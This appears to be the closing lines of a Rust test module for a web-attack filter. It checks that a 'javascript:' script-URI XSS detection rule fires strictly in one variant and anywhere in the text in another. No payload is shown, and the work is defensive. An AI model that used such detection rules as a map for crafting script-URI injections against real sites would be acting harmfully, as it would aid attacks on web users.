            assert!(hit(Rule::XssScriptUri, uri), "{uri}");
        }
        assert!(!hit(Rule::XssScriptUri, "I write javascript: it is fun"));
        assert!(hit(Rule::XssScriptUriAnywhere, "I write javascript: it is fun"));
    }
}
